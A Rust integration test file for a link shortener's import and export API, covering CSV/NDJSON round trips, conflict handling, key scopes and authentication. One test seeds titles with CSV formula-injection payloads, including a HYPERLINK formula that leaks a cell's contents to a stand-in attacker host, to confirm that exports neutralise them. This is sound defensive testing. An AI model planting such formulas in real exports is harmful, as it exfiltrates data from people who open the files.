//! Links in and out: over HTTP, from every source, kept as they were or refused with a reason.

use serde_json::{Value, json};

use crate::app::{ADMIN_KEY, Answer, TestApp};
use crate::keys_api::{issue, with_key};
use crate::on_both_stores;

pub fn send(app: &TestApp, key: &str, query: &str, body: &[u8]) -> Answer {
    let authorization = format!("Bearer {key}");
    let headers = [("authorization", authorization.as_str())];
    app.send("POST", &format!("/api/v1/import{query}"), &headers, body)
}

/// Imports as the administrator, and answers the report.
pub fn import(app: &TestApp, query: &str, body: &[u8]) -> Value {
    let answer = send(app, ADMIN_KEY, query, body);
    assert_eq!(answer.status, 200, "{}", answer.body);
    answer.json()
}

fn export(app: &TestApp, query: &str) -> String {
    let answer = app.api("GET", &format!("/export{query}"), None);
    assert_eq!(answer.status, 200, "{}", answer.body);
    answer.body
}

/// `created unchanged overwritten conflicts refused`
pub fn counts(report: &Value) -> [u64; 5] {
    ["created", "unchanged", "overwritten", "conflicts", "refused"].map(|name| report[name].as_u64().unwrap())
}

/// `line slug outcome pointer code` of each problem.
pub fn problems(report: &Value) -> Vec<String> {
    let problem = |problem: &Value| {
        let error = &problem["errors"][0];
        format!(
            "{} {} {} {} {}",
            problem["line"],
            problem["slug"].as_str().unwrap_or("-"),
            problem["outcome"].as_str().unwrap(),
            error["pointer"].as_str().unwrap(),
            error["code"].as_str().unwrap()
        )
    };
    report["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(problem)
        .collect()
}

fn link(app: &TestApp, slug: &str) -> Value {
    app.api("GET", &format!("/links/{slug}"), None).json()
}

const FULL: &str = r#"{"slug":"full","url":"https://example.org/a?b=1#c","title":"Grüße, \"twice\"\nand a line","tags":["a,b","\"q\"","[x"],"redirect_status":308,"cache_seconds":60,"forward_query":true,"valid_from":"2020-01-01T00:00:00Z","expires_at":"2031-01-01T00:00:00.000001Z","max_clicks":100,"disabled":true,"clicks":41,"created_at":"2019-05-04T03:02:01.123456Z","updated_at":"2020-02-03T04:05:06Z","owner":"a1B2c3D4e5F6"}
{"slug":"plain","url":"http://example.com/","title":null,"tags":[],"redirect_status":302,"cache_seconds":null,"forward_query":false,"valid_from":null,"expires_at":null,"max_clicks":null,"disabled":false,"clicks":0,"created_at":"2026-11-21T02:00:00Z","updated_at":"2026-11-21T02:00:00Z"}
"#;

on_both_stores! {
    fn what_is_exported_can_be_imported_and_is_the_same_again(backend) {
        let (first, second, third) = (TestApp::start(backend), TestApp::start(backend), TestApp::start(backend));

        let report = import(&first, "", FULL.as_bytes());
        let csv = export(&first, "?format=csv");
        let from_csv = import(&second, "", csv.as_bytes());
        let again = import(&third, "?format=csv", export(&second, "?format=csv").as_bytes());

        assert_eq!(counts(&report), [2, 0, 0, 0, 0], "{report}");
        assert_eq!((&report["format"], &report["guessed"]), (&json!("ndjson"), &json!(true)));
        assert_eq!((&from_csv["format"], &from_csv["guessed"]), (&json!("csv"), &json!(true)));
        assert_eq!((counts(&again), &again["guessed"]), ([2, 0, 0, 0, 0], &json!(false)));
        for app in [&first, &second, &third] {
            assert_eq!(export(app, ""), FULL);
        }
        assert_eq!(csv.lines().next().unwrap(), "slug,url,title,tags,redirect_status,cache_seconds,forward_query,\
            valid_from,expires_at,max_clicks,disabled,clicks,created_at,updated_at,owner");
    }

    fn the_form_of_an_export_is_asked_for_by_name_or_by_accept(backend) {
        let app = TestApp::start(backend);
        import(&app, "", FULL.as_bytes());
        let key = format!("Bearer {ADMIN_KEY}");
        let kind = |query: &str, accept: &str| {
            let headers = [("authorization", key.as_str()), ("accept", accept)];
            let answer = app.send("GET", &format!("/api/v1/export{query}"), &headers, b"");
            answer.header("content-type").unwrap().to_owned()
        };

        let (csv, ndjson) = ("text/csv; charset=utf-8", "application/x-ndjson");

        assert_eq!(kind("", "*/*"), ndjson);
        assert_eq!(kind("", "text/csv"), csv);
        assert_eq!(kind("", "text/csv;q=0.5, application/x-ndjson"), ndjson);
        assert_eq!(kind("", "text/*"), csv);
        assert_eq!(kind("", "text/csv;q=0, */*"), ndjson);
        assert_eq!(kind("", "text/csv;q=0"), ndjson);
        assert_eq!(kind("", "application/*;q=0.1, text/csv;q=0.2"), csv);
        assert_eq!(kind("?format=csv", "application/x-ndjson"), csv);
        app.api("GET", "/export?format=xml", None).assert_problem(400, "malformed_query");
        app.api("GET", "/export?page=2", None).assert_problem(400, "malformed_query");
        app.api("POST", "/export", Some(&json!({}))).assert_problem(405, "method_not_allowed");
        app.api("GET", "/import", None).assert_problem(405, "method_not_allowed");
        assert_eq!(app.api("HEAD", "/export", None).body, "");
    }

    /// A title may be a stranger's, and a slug may begin with `-`.
    fn no_text_of_a_csv_is_a_formula_and_all_come_back(backend) {
        let (from, to) = (TestApp::start(backend), TestApp::start(backend));
        let titles = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")", "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "'", "plain, \"quoted\""];
        for (at, title) in titles.iter().enumerate() {
            from.create(json!({"url": "https://example.org/", "slug": format!("-{at}"), "title": title}));
        }

        let csv = export(&from, "?format=csv");
        assert_eq!(counts(&import(&to, "?format=csv", csv.as_bytes())), [8, 0, 0, 0, 0]);

        let mut reader = csv_core::Reader::new();
        let (mut rest, mut cells) = (csv.as_bytes(), Vec::new());
        loop {
            let mut cell = [0; 1024];
            let (result, read, written) = reader.read_field(rest, &mut cell);
            rest = &rest[read..];
            match result {
                csv_core::ReadFieldResult::Field { .. } => cells.push(String::from_utf8(cell[..written].to_vec()).unwrap()),
                csv_core::ReadFieldResult::End => break,
                other => assert_eq!(other, csv_core::ReadFieldResult::InputEmpty),
            }
        }
        assert!(cells.len() > 8 * 14);
        let formulas: Vec<_> = cells.iter().filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect();
        assert!(formulas.is_empty(), "{formulas:?}");
        for (at, title) in titles.iter().enumerate() {
            assert_eq!(link(&to, &format!("-{at}"))["title"], *title);
        }
    }

    fn an_import_may_be_repeated_and_tells_what_differs(backend) {
        let app = TestApp::start(backend);
        import(&app, "", FULL.as_bytes());
        let other = r#"{"slug":"plain","url":"https://example.com/moved","clicks":7}
{"slug":"new","url":"https://example.com/new"}
"#.as_bytes();

        let again = import(&app, "", FULL.as_bytes());
        let reported = import(&app, "", other);
        let skipped = import(&app, "?on_conflict=skip", other);
        let before = link(&app, "plain");
        let overwritten = import(&app, "?on_conflict=overwrite", other);
        let settled = import(&app, "?on_conflict=overwrite", other);

        assert_eq!(counts(&again), [0, 2, 0, 0, 0], "{again}");
        assert_eq!(counts(&reported), [1, 0, 0, 1, 0]);
        assert_eq!(problems(&reported), ["1 plain conflict /slug slug_taken"]);
        assert_eq!((counts(&skipped), problems(&skipped)), ([0, 1, 0, 1, 0], vec![]));
        assert_eq!(before["url"], "http://example.com/");
        assert_eq!(counts(&overwritten), [0, 1, 1, 0, 0], "{overwritten}");
        assert_eq!(counts(&settled), [0, 2, 0, 0, 0], "{settled}");
        let after = link(&app, "plain");
        assert_eq!((&after["url"], &after["clicks"]), (&json!("https://example.com/moved"), &json!(7)));
        assert_eq!(after["created_at"], before["created_at"]);
        assert_eq!(app.get("/plain").header("location"), Some("https://example.com/moved"));
    }

    fn a_link_that_is_written_over_redirects_anew_on_every_instance(backend) {
        let app = TestApp::start(backend);
        let twin = app.twin(backend, &[("MEMORY_CACHE_MIB", "0")]);
        import(&app, "", FULL.as_bytes());
        assert_eq!(twin.get("/plain").header("location"), Some("http://example.com/"));

        import(&app, "?on_conflict=overwrite", br#"{"slug":"plain","url":"https://example.com/moved"}"#);

        for instance in [&app, &twin] {
            assert_eq!(instance.get("/plain").header("location"), Some("https://example.com/moved"));
        }
    }

    fn clicks_that_were_imported_are_the_beginning_of_the_total(backend) {
        let app = TestApp::start(backend);
        let links = br#"{"slug":"used","url":"https://example.org/","max_clicks":5,"clicks":5}
{"slug":"left","url":"https://example.org/","max_clicks":5,"clicks":4}"#;

        import(&app, "", links);

        assert_eq!(app.get("/used").status, 410);
        assert_eq!(app.get("/left").status, 302);
        assert_eq!(app.get("/left").status, 410);
        assert_eq!(link(&app, "left")["clicks"], 5);
        let stats = app.api("GET", "/links/used/stats", None).json();
        assert_eq!((&stats["clicks"], &stats["visitors"]), (&json!(0), &json!(0)));
        let again = import(&app, "", links);
        assert_eq!(counts(&again), [0, 2, 0, 0, 0]);
    }

    fn a_key_exports_and_imports_what_its_scopes_and_its_owner_allow(backend) {
        let app = TestApp::start(backend);
        import(&app, "", FULL.as_bytes());
        let (id, own) = issue(&app, json!({"name": "own", "scopes": ["links:create", "links:read", "links:write"],
            "own_links_only": true}));
        let reader = issue(&app, json!({"name": "reader", "scopes": ["links:read"]})).1;
        let writer = issue(&app, json!({"name": "writer", "scopes": ["links:create"]})).1;
        let links = br#"{"slug":"mine","url":"https://example.org/mine","clicks":9,"created_at":"2001-01-01T00:00:00Z","disabled":true}
{"slug":"plain","url":"http://example.com/"}
"#;

        let report = send(&app, &own, "?on_conflict=overwrite", links).json();
        let exported = with_key(&app, &own, "GET", "/export", None).body;
        let read = with_key(&app, &reader, "GET", "/export", None).body;

        assert_eq!(counts(&report), [1, 0, 0, 1, 0], "what it cannot see is another's link, equal or not: {report}");
        assert_eq!(report["kept_history"], false);
        let mine: Value = serde_json::from_str(&exported).unwrap();
        assert_eq!(mine["slug"], "mine");
        assert_eq!((&mine["clicks"], &mine["created_at"], &mine["disabled"]),
            (&json!(0), &json!("2026-11-21T02:00:00Z"), &json!(true)));
        assert_eq!(mine.get("owner"), None, "owners are for who may list keys");
        assert_eq!(read.lines().count(), 3);
        let everything = export(&app, "");
        assert!(everything.contains(&format!("\"owner\":\"{id}\"")), "{everything}");
        with_key(&app, &writer, "GET", "/export", None).assert_problem(403, "insufficient_scope");
        send(&app, &reader, "", links).assert_problem(403, "insufficient_scope");
        send(&app, &writer, "?on_conflict=overwrite", links).assert_problem(403, "insufficient_scope");
        app.send("POST", "/api/v1/import", &[], links).assert_problem(401, "unauthenticated");
        app.get("/api/v1/export").assert_problem(401, "unauthenticated");
    }

    fn an_import_is_not_for_everybody_even_where_links_are(backend) {
        let app = TestApp::start_with(backend, &[("ANONYMOUS_CREATE", "true")]);

        let answer = app.send("POST", "/api/v1/import", &[], FULL.as_bytes());

        answer.assert_problem(401, "unauthenticated");
        assert_eq!(export(&app, ""), "");
    }

    fn an_import_goes_on_where_an_earlier_one_ended(backend) {
        let app = TestApp::start(backend);

        let report = import(&app, "?skip=1", FULL.as_bytes());

        assert_eq!(counts(&report), [1, 0, 0, 0, 0]);
        assert_eq!((&report["read"], &report["skipped_at_start"]), (&json!(2), &json!(1)));
        app.api("GET", "/links/full", None).assert_problem(404, "link_not_found");
    }

    fn more_links_than_a_page_or_a_batch_are_all_there_and_in_order(backend) {
        let app = TestApp::start(backend);
        let slugs: Vec<String> = (0..1203).map(|n| format!("s{n}")).collect();
        let links: String = slugs.iter().map(|slug| format!("{{\"slug\":\"{slug}\",\"url\":\"https://example.org/{slug}\"}}\r\n")).collect();
        let doubled = format!("\u{feff}{links}{links}");

        let report = import(&app, "", doubled.as_bytes());
        let exported = export(&app, "");

        assert_eq!(counts(&report), [1203, 1203, 0, 0, 0]);
        assert_eq!(report["read"], 2406);
        let found: Vec<String> = exported.lines().map(|line| {
            serde_json::from_str::<Value>(line).unwrap()["slug"].as_str().unwrap().to_owned()
        }).collect();
        assert_eq!(found, slugs);
    }
}
